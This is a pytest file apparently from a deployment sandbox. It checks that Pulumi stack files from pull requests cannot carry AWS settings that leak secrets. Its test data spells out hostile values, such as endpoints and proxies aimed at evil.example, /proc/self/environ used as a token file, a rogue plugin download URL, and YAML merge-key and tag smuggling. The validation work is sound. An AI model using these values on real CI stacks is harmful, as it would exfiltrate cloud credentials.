"""Whoever opens a pull request writes a stack file: what it may say to the provider is listed, and all else is refused."""

from __future__ import annotations

import ast
import json
import shutil
from importlib import util
from pathlib import Path
from typing import Any

import pytest
import yaml

from sandbox import provider_settings, stack_config
from sandbox.__main__ import _dispatch
from sandbox.bootstrap.places import REPOSITORY
from sandbox.layout import Layout, SandboxError

ROLE = "arn:aws:iam::111122223333:role/deploy"
ON_LOOPBACK = {"aws:accessKey": "test", "aws:secretKey": "test", "aws:endpoints": [{"ec2": "http://[::1]:1"}]}


def told(layout: Layout, text: str) -> str:
    """Why the file is refused: one message in the house's form."""
    layout.stack_file("theirs").write_text(text, encoding="utf-8")
    with pytest.raises(SandboxError) as caught:
        stack_config.read(layout, "theirs")
    said = str(caught.value)
    assert said.startswith("Pulumi.theirs.yaml: ")
    assert "\n    fix: " in said or "\n  fix: " in said
    assert all(line.isprintable() for line in said.split("\n"))
    return said


def config(**settings: Any) -> str:
    return yaml.safe_dump({"config": {f"aws:{key}": value for key, value in settings.items()}})


# A file, and what the report has to say of it.
ATTACKS: dict[str, tuple[str, tuple[str, ...]]] = {
    "a command of a file beside the stack file": (
        config(profile="x", sharedConfigFiles=["${GITHUB_WORKSPACE}/change/notes.txt"]),
        (
            'aws:sharedConfigFiles: ["${GITHUB_WORKSPACE}/change/notes.txt"]',
            "fix: AWS_CONFIG_FILE in the environment of the machine",
        ),
    ),
    "a command of a file of credentials": (
        config(sharedCredentialsFiles=["change/notes.txt"]),
        ('aws:sharedCredentialsFiles: ["change/notes.txt"]', "AWS_SHARED_CREDENTIALS_FILE"),
    ),
    "the environment as a token, sent to an address": (
        config(
            assumeRoleWithWebIdentity={"roleArn": ROLE, "webIdentityTokenFile": "/proc/self/environ"},
            endpoints=[{"sts": "https://evil.example"}],
        ),
        (
            "aws:assumeRoleWithWebIdentity: ",
            "AWS_ROLE_ARN and AWS_WEB_IDENTITY_TOKEN_FILE in the environment",
            'aws:endpoints[0].sts: "https://evil.example"',
            "AWS_ENDPOINT_URL_<SERVICE> in the environment",
        ),
    ),
    "the older spelling": (
        config(**{"config:sharedConfigFiles": ["x"]}),
        ('aws:config:sharedConfigFiles: ["x"]', "AWS_CONFIG_FILE"),
    ),
    "an address in JSON text": (
        config(endpoints='[{"sts": "https://evil.example"}]'),
        ('aws:endpoints[0].sts: "https://evil.example"',),
    ),
    "an address behind another one of its name": (
        config(endpoints='[{"sts": "http://127.0.0.1:1", "sts": "https://evil.example"}]'),
        ("aws:endpoints: ", "is not a list of mappings"),
    ),
    "an address that is merged in": (
        "config:\n  ssm-vpc-endpoints:tags: &a {sts: 'https://evil.example'}\n  aws:endpoints: [{<<: *a}]\n",
        ('aws:endpoints[0].sts: "https://evil.example"',),
    ),
    "an address among some on loopback": (
        config(endpoints=[{"ec2": "http://127.0.0.1:1"}, {"sts": "https://evil.example"}]),
        ('aws:endpoints[1].sts: "https://evil.example"',),
    ),
    "an address that readers of URLs disagree about": (
        config(endpoints=[{"sts": "http://evil.example\\@127.0.0.1"}]),
        ("aws:endpoints[0].sts: ",),
    ),
    "an address that is a list": (config(endpoints=[{"sts": ["http://127.0.0.1"]}]), ("aws:endpoints[0].sts: ",)),
    "an address that is encrypted": (
        config(endpoints={"secure": "v1:abc"}),
        ("aws:endpoints: (not shown)", "is not a list of mappings"),
    ),
    "real keys on their way to loopback": (
        config(endpoints=[{"sts": "http://127.0.0.1:1"}]),
        ("aws:endpoints: ", "aws:accessKey: test and aws:secretKey: test"),
    ),
    "a file in a role to assume": (
        config(assumeRoles=[{"roleArn": ROLE}, {"roleArn": ROLE, "webIdentityTokenFile": "/proc/self/environ"}]),
        ("aws:assumeRoles[1].webIdentityTokenFile: (not shown)", "AWS_WEB_IDENTITY_TOKEN_FILE"),
    ),
    "a file in a role as JSON text": (
        config(assumeRoles=json.dumps([{"webIdentityTokenFile": "/proc/self/environ"}])),
        ("aws:assumeRoles[0].webIdentityTokenFile: ",),
    ),
    "a role that is none": (config(assumeRoles={"roleArn": ROLE}), ("aws:assumeRoles: ", "is not a list of mappings")),
    "roles that are encrypted": (config(assumeRoles={"secure": "v1:abc"}), ("aws:assumeRoles: (not shown)",)),
    "a path as a key": (
        config(**{"assumeRoles[0].webIdentityTokenFile": "/proc/self/environ"}),
        ("aws:assumeRoles[0].webIdentityTokenFile: (not shown)", "under aws:assumeRoles"),
    ),
    "a proxy": (
        config(httpProxy="http://evil.example", httpsProxy="http://a:hunter2@evil.example", noProxy="x"),
        ("aws:httpProxy: ", "aws:httpsProxy: ", "HTTPS_PROXY in the environment", "aws:noProxy: "),
    ),
    "somebody's certificates": (
        config(customCaBundle="change/ca.pem", insecure=True),
        ('aws:customCaBundle: "change/ca.pem"', "AWS_CA_BUNDLE", "aws:insecure: true", "fix: leave it out"),
    ),
    "somebody's instance metadata": (
        config(ec2MetadataServiceEndpoint="http://evil.example"),
        ("aws:ec2MetadataServiceEndpoint: ", "AWS_EC2_METADATA_SERVICE_ENDPOINT"),
    ),
    "keys": (
        config(accessKey="AKIAhunter2", secretKey="hunter2", token="hunter2"),
        (
            *("aws:accessKey: (not shown)", "AWS_ACCESS_KEY_ID", "aws:secretKey: (not shown)"),
            *("AWS_SECRET_ACCESS_KEY", "aws:token: (not shown)", "AWS_SESSION_TOKEN"),
        ),
    ),
    "keys of the sandbox in a real account": (
        config(accessKey="test", secretKey="test"),
        ("aws:accessKey: ", "aws:endpoints that are all on loopback"),
    ),
    "a key of somebody's in the sandbox": (
        yaml.safe_dump({"config": ON_LOOPBACK | {"aws:secretKey": "hunter2"}}),
        ("aws:secretKey: (not shown)", "aws:endpoints: "),
    ),
    # Not the provider's, but the engine's: where the plugin itself comes from.
    "another plugin": (
        config(pluginDownloadURL="https://evil.example", version="6.0.0", __internal={"x": "y"}),
        ("aws:pluginDownloadURL: ", "aws:version: ", "aws:__internal: "),
    ),
    "a Region that ends the host's name": (
        config(region="evil.example#", stsRegion="x@evil.example/"),
        ('aws:region: "evil.example#"', 'aws:stsRegion: "x@evil.example/"', "letters, digits and hyphens"),
    ),
    "a Region that is encrypted": (config(stsRegion={"secure": "v1:abc"}), ("aws:stsRegion: (not shown)",)),
    "a key that is merged in": (
        "config:\n  ssm-vpc-endpoints:tags: &a {'aws:sharedConfigFiles': [x]}\n  <<: *a\n",
        ("line 3 has a key that is not text",),
    ),
    "a key that Pulumi's reader alone merges in": (
        "config:\n  ssm-vpc-endpoints:tags: &a {'aws:sharedConfigFiles': [x]}\n  ! '<<': *a\n",
        ("line 3 has a key that is not text",),
    ),
    "a configuration that is merged in": (
        "x: &a {config: {'aws:sharedConfigFiles': [x]}}\n<<: *a\n",
        ("line 2 has a key that is not text",),
    ),
    "a key in another alphabet": (
        # It says that of sharedConfigFiles.
        "config:\n  !!binary YXdzOnNoYXJlZENvbmZpZ0ZpbGVz: [x]\n",
        ("line 2 has a key that is not text",),
    ),
    "variables of the run": (
        "environment: {values: {environmentVariables: {AWS_CONFIG_FILE: hunter2}}}\nconfig: {}\n",
        ("environment: (not shown)", "is not a list of names", "fix: environment: [<project>/<environment>]"),
    ),
    "variables of the run in a list": (
        "environment: [aws/prod, {values: {}}]\nconfig: {}\n",
        ("environment: ", "is not a list of names"),
    ),
    "an environment that is text": ("environment: aws/prod\n", ("environment: ", "is not a list of names")),
    "an environment that is a number": ("environment: [1]\n", ("environment: ", "is not a list of names")),
    "an address that secrets go to": (
        "secretsprovider: awskms://alias/x?region=eu-west-1&%65ndpoint=https://evil.example\nconfig: {}\n",
        ("secretsprovider: ", "is not the URL of a key alone", "AWS_ENDPOINT_URL_KMS"),
    ),
    "misspelt": (config(regoin="x"), ('aws:regoin: "x"', "did you mean aws:region?")),
    "misspelt, and what it may be is secret": (
        config(secretkey="hunter2"),
        ("aws:secretkey: (not shown)", "is not a setting that is known here"),
    ),
    "nobody's": (
        "config: {'aws:': 1, 'aws:a:b:c': 3, aws:futureSetting: 4}\n",
        ("3 settings", "aws:: ", "aws:a:b:c: ", "aws:futureSetting: ", "aws: region, stsRegion, "),
    ),
}  # fmt: skip


@pytest.mark.parametrize(("text", "parts"), ATTACKS.values(), ids=ATTACKS.keys())
def test_what_a_stack_file_may_not_say_is_refused_with_where_it_belongs(
    layout: Layout, text: str, parts: tuple[str, ...]
) -> None:
    said = told(layout, text)
    assert [part for part in parts if part not in said] == [], said
    assert "hunter2" not in said


@pytest.mark.parametrize("verb", ["preview", "up", "down", "drift"])
@pytest.mark.parametrize("sandbox", [False, True])
def test_nothing_is_started_for_a_file_that_is_refused(
    layout: Layout, monkeypatch: pytest.MonkeyPatch, verb: str, sandbox: bool
) -> None:
    monkeypatch.setattr("subprocess.Popen.__init__", lambda *_, **__: pytest.fail("something was started"))
    for own in ("theirs", "dev"):
        said = yaml.safe_load(layout.stack_file("dev").read_text()) if own == "dev" else {"config": {}}
        said["config"]["aws:sharedConfigFiles"] = ["x"]
        layout.stack_file(own).write_text(yaml.safe_dump(said))
        with pytest.raises(SandboxError, match="aws:sharedConfigFiles"):
            _dispatch(layout, verb, own, sandbox=sandbox, extra=[])
    assert not layout.config.exists()


def test_one_report_holds_everything_and_ends(layout: Layout) -> None:
    text = config(sharedConfigFiles=["x"], proxy=1, endpoints=[{str(n): "x" for n in range(99)}])
    said = told(layout, f"environment: {{}}\nsecretsprovider: [x]\n{text}")
    for key in ("environment: ", "secretsprovider: ", "aws:sharedConfigFiles: ", "aws:proxy: "):
        assert said.count(f"  - {key}") == 1
    assert said.startswith("Pulumi.theirs.yaml: 103 settings ")
    assert "... and 83 more" in said
    assert len(said) < 10_000
    assert "1 setting that" in told(layout, config(token="x"))


SAID: dict[str, Any] = {
    "aws:region": "eu-west-1",
    "aws:config:stsRegion": "eu-west-1",
    "aws:profile": "production",
    "aws:assumeRoles": [
        {"roleArn": ROLE, "externalId": {"secure": "v1:abc"}, "duration": "1h", "policyArns": [ROLE]},
        {"roleArn": ROLE, "sessionName": "x", "sourceIdentity": "x", "tags": {"a": "b"}, "policy": "{}"},
        {"roleArn": ROLE, "transitiveTagKeys": ["a"]},
    ],
    "aws:allowedAccountIds": ["111122223333"],
    "aws:forbiddenAccountIds": '["111122223333"]',
    "aws:defaultTags": {"tags": {"team": "x"}},
    "aws:ignoreTags": {"keys": ["x"]},
    "aws:maxRetries": 3,
    "aws:retryMode": "adaptive",
    **dict.fromkeys(("aws:useFipsEndpoint", "aws:useDualstackEndpoint", "aws:s3UsePathStyle"), True),
    **{f"aws:skip{check}": "true" for check in stack_config.SKIPPED_CHECKS},
    # Nobody but their own programs reads these.
    "acme:profile": "x",
    "pulumi:tags": {"a": "b"},
    "aws-native:region": "eu-west-1",
    "ssm-vpc-endpoints:tags": {"aws:sharedConfigFiles": "x"},
    "profile": "x",
}


@pytest.mark.parametrize(
    "more",
    [
        {},
        ON_LOOPBACK,
        ON_LOOPBACK | {"aws:endpoints": '[{"ec2": "http://localhost:4566"}, {"sts": "https://127.0.0.2/x"}]'},
        {"aws:assumeRoles": json.dumps([{"roleArn": ROLE}]), "aws:region": None, "aws:stsRegion": ""},
    ],
)
def test_what_is_allowed_is_read(layout: Layout, more: dict[str, Any]) -> None:
    said = {key: value for key, value in SAID.items() if key.replace(":config:", ":") not in more} | more
    file = {
        "environment": ["aws/prod", "a@3"],
        "secretsprovider": "awskms://alias/x?region=eu-west-1&awssdk=v2&context_a=b",
        "config": said,
    }
    layout.stack_file("good").write_text(yaml.safe_dump(file))
    stack_config.read(layout, "good")
    assert {key.split(":")[-1] for key in SAID if key.startswith("aws:")} == set(provider_settings.ALLOWED)


@pytest.mark.parametrize("file", sorted(REPOSITORY.glob("Pulumi.*.yaml")), ids=lambda file: file.name)
def test_every_stack_file_of_the_repository_is_read(file: Path) -> None:
    stack_config.read(Layout(), file.name.removeprefix("Pulumi.").removesuffix(".yaml"))


@pytest.mark.parametrize(
    "text", ["", "environment:\nconfig:\n  aws:assumeRoles:\n  aws:profile:\n", "environment: []\n"]
)
def test_what_says_nothing_is_no_problem(layout: Layout, text: str) -> None:
    layout.stack_file("good").write_text(f"{text}encryptionsalt: v1:abc\n")
    stack_config.read(layout, "good")


ODD: list[Any] = [
    *("", "x", "[", "[1]", "{", "[{}]", "[" * 5000, "[" + "9" * 5000 + "]", "\x1b[2J", "\u202e", "x" * 9999),
    *(0, -1.5, float("nan"), True, None, b"x", yaml.safe_load("2026-11-30")),
    *([], [[]], [{}], [None], [{"secure": "x"}], [{None: None}], [{"roleArn": {1: [b"x"]}}]),
    *([{"\x1b[2J": "\x1b[2J"}], [{"x" * 9999: 1}], {}, {"secure": 1}, {1: 2}),
]


def shape(layout: Layout, file: object) -> str:
    """What is said of the file, if anything: a message."""
    layout.stack_file("odd").write_text(yaml.safe_dump(file))
    try:
        stack_config.read(layout, "odd")
    except SandboxError as error:
        return str(error)
    return ""


@pytest.mark.parametrize(
    "name", [*provider_settings.ALLOWED, *provider_settings.ELSEWHERE, "x", "\x1b[2J", "x" * 9999]
)
def test_no_shape_of_a_value_is_a_traceback(layout: Layout, name: str) -> None:
    told = [shape(layout, {"config": {f"aws:{name}": odd}}) for odd in ODD]
    assert all(line.isprintable() for each in told for line in each.split("\n"))
    assert max(map(len, told)) < 10_000
    assert all(told) or name in provider_settings.ALLOWED


@pytest.mark.parametrize("key", ["environment", "secretsprovider"])
def test_no_shape_of_what_the_engine_reads_is_a_traceback(layout: Layout, key: str) -> None:
    told = [shape(layout, {key: odd}) for odd in ODD]
    assert all(line.isprintable() for each in told for line in each.split("\n"))
    assert max(map(len, told)) < 10_000


@pytest.mark.parametrize(
    "tag", ["!!int x", "!!timestamp now", "!!python/object/apply:os.getcwd []", "!mine x", "{[1]: 2}"]
)
def test_a_value_that_yaml_cannot_read_is_a_message(layout: Layout, tag: str) -> None:
    assert "this is not YAML" in told(layout, f"config: {{'aws:profile': {tag}}}\n")


def of_provider(module: str) -> str:
    """A module of the locked provider's configuration."""
    package = util.find_spec("pulumi_aws")
    assert package
    assert package.origin
    return (Path(package.origin).parent / "config" / module).read_text(encoding="utf-8")


def test_every_setting_of_the_locked_provider_is_decided() -> None:
    """Another version of the provider may bring a door of its own; until somebody has looked, it is refused."""
    calls = (each for each in ast.walk(ast.parse(of_provider("vars.py"))) if isinstance(each, ast.Call))
    names = {
        call.args[0].value
        for call in calls
        if isinstance(call.func, ast.Attribute)
        and isinstance(call.func.value, ast.Name)
        and call.func.value.id == "__config__"
        and isinstance(call.args[0], ast.Constant)
    }
    assert len(names) > 30
    assert names == {*provider_settings.ALLOWED, *provider_settings.ELSEWHERE}
    assert not {*provider_settings.ALLOWED} & {*provider_settings.ELSEWHERE}


def test_every_setting_of_a_role_is_the_locked_providers() -> None:
    classes = (each for each in ast.parse(of_provider("outputs.py")).body if isinstance(each, ast.ClassDef))
    (role,) = (each for each in classes if each.name == "AssumeRoles")
    (init,) = (each for each in role.body if isinstance(each, ast.FunctionDef) and each.name == "__init__")
    words = [argument.arg.split("_") for argument in init.args.kwonlyargs]
    names = {first + "".join(map(str.capitalize, rest)) for first, *rest in words}
    assert names == set(provider_settings.OF_ROLE)


def test_a_copy_for_the_sandbox_has_nothing_of_it_either(layout: Layout) -> None:
    shutil.copy(layout.stack_file("dev"), layout.stack_file("mine"))
    with layout.stack_file("mine").open("a") as file:
        file.write("  aws:sharedConfigFiles: [x]\n")
    with pytest.raises(SandboxError, match="aws:sharedConfigFiles"):
        stack_config.copy(layout, "mine", 5601, layout.config)
    with pytest.raises(SandboxError, match="aws:sharedConfigFiles"):
        stack_config.redirect(layout, "mine", 5601, layout.config, "x")
    assert not layout.config.exists()
